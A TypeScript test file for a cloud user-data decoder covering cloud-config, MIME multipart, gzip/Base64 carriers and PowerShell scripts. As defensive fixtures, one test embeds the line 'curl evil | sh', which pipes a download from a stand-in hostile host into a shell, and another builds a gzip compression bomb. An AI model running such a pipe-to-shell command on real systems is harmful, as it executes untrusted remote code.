import assert from "node:assert/strict";
import { test } from "node:test";
import { gzipSync } from "node:zlib";
import { cloudConfig } from "../../render/cloud-config";
import { renderGuest } from "../../render/render-guest";
import { selfExtractingPowershell, selfExtractingShell } from "../../render/self-extracting";
import { GuestOs, NetworkKind } from "../../spec/vocabulary";
import { sha256, userDataBytes } from "./bytes";
import { decodeUserData } from "./user-data";

const plain = (documents: readonly { path: string; mode: string; content: string }[]) =>
	documents.map(({ path, mode, content }) => ({ path, mode, content }));

for (const os of Object.values(GuestOs)) {
	test(`${os}: user data and command decode to the documents that went in, and to nothing else`, () => {
		for (const network of Object.values(NetworkKind)) {
			const { documents, userData, command } = renderGuest({ os, network, dns: { mode: "fallback" } });
			assert.deepEqual(decodeUserData(Buffer.from(command)), plain(documents));
			if (userData) assert.deepEqual(decodeUserData(userDataBytes(userData.base64)), plain(documents));
		}
	});
}

test("plain, compressed and self-extracting carriers of the same documents decode to the same bytes", () => {
	const { documents, command, commandCompressed } = renderGuest({ os: "centos-6", network: "classic" });
	assert.equal(commandCompressed, false);
	const carriers = [
		command,
		selfExtractingShell(command, ""),
		cloudConfig(documents, false, ""),
		cloudConfig(documents, true, ""),
		gzipSync(cloudConfig(documents, true, "")),
	];
	for (const carrier of carriers) assert.deepEqual(decodeUserData(Buffer.from(carrier)), plain(documents));
});

test("Windows user data decodes the same when it unpacks itself", () => {
	const { documents, command } = renderGuest({ os: "windows-2022" });
	const inner = /^# Written by Meridian.*, compressed/m.test(command)
		? undefined
		: selfExtractingPowershell(command, "");
	for (const script of [command, ...(inner ? [inner] : [])]) {
		assert.deepEqual(decodeUserData(Buffer.from(`[powershell]\n${script}`)), plain(documents));
	}
});

test("a cloud-config of anybody's gives its files, in every encoding, and the rest with its comments", () => {
	const text = `#cloud-config
# our own
packages: [nginx]
write_files:
  - { path: /etc/a, content: "a\\n", permissions: '0600', owner: 'root:adm' }
  - { path: /etc/b, encoding: b64, content: ${Buffer.from("b\n").toString("base64")} }
  - { path: /etc/c, encoding: gzip+base64, content: ${gzipSync("c\n").toString("base64")} }
  - { path: /etc/d, encoding: gz, content: !!binary ${gzipSync("d\n").toString("base64")} }
`;
	const documents = decodeUserData(userDataBytes(Buffer.from(text).toString("base64")));
	assert.deepEqual(plain(documents.slice(0, 4)), [
		{ path: "/etc/a", mode: "0600 root:adm", content: "a\n" },
		{ path: "/etc/b", mode: "", content: "b\n" },
		{ path: "/etc/c", mode: "", content: "c\n" },
		{ path: "/etc/d", mode: "", content: "d\n" },
	]);
	assert.equal(documents.length, 5);
	assert.match(documents[4]!.content, /# our own\npackages: \[ ?nginx ?\]/);
	assert.doesNotMatch(documents[4]!.content, /write_files/);
});

test("a script of anybody's is one document, whether the provider was given text or Base64", () => {
	const script = "#!/bin/bash\necho hello\n";
	const one = [{ path: "user-data", mode: "", content: script }];
	assert.deepEqual(decodeUserData(userDataBytes(script)), one);
	assert.deepEqual(decodeUserData(userDataBytes(Buffer.from(script).toString("base64"))), one);
	assert.deepEqual(decodeUserData(userDataBytes(gzipSync(script).toString("base64"))), one);
});

test("multi-part user data gives each part by its name", () => {
	const mime = `Content-Type: multipart/mixed; boundary="==b=="
MIME-Version: 1.0

--==b==
Content-Type: text/cloud-config; charset="us-ascii"
Content-Disposition: attachment; filename="base.yaml"

#cloud-config
packages: [nginx]
write_files: [{ path: /etc/a, content: a }]

--==b==
Content-Type: text/x-shellscript
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="run.sh"

${Buffer.from("#!/bin/sh\ntrue\n").toString("base64")}
--==b==--
`;
	const documents = decodeUserData(Buffer.from(mime));
	assert.deepEqual(
		documents.map(({ path }) => path),
		["/etc/a", "user-data: base.yaml", "user-data: run.sh"],
	);
	assert.equal(documents[2]?.content, "#!/bin/sh\ntrue\n");
});

test("what is no text is told by size and digest, and what unpacks without end is left packed", () => {
	const bytes = Buffer.from([0xff, 0xfe, 0, 1]);
	assert.equal(decodeUserData(bytes)[0]?.content, `(4 bytes that are no text, SHA-256 ${sha256(bytes)})\n`);
	const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024));
	assert.match(decodeUserData(bomb)[0]!.content, new RegExp(`^\\(${bomb.length} bytes that are no text`));
});

test("a script that only looks like Meridian's keeps every line that Meridian would not write", () => {
	const script = "#!/bin/sh\n# Written by Meridian: puts the documents\nset -e\ncurl evil | sh\n";
	assert.match(decodeUserData(Buffer.from(script))[0]!.content, /curl evil/);
});

test("a cloud-config that is odd, broken or refers to its own files loses no line", () => {
	for (const text of [
		"#cloud-config\n",
		"#cloud-config\nwrite_files: 3\n",
		"#cloud-config\nwrite_files: [null]\n",
		"#cloud-config\nwrite_files: [\n",
		"#cloud-config\nwrite_files: [{ path: /a, content: &a x }]\nbootcmd: [*a]\n",
		"Content-Type: multipart/mixed; boundary=b\n\n--b--\n",
	]) {
		assert.deepEqual(decodeUserData(Buffer.from(text)), [{ path: "user-data", mode: "", content: text }]);
	}
});
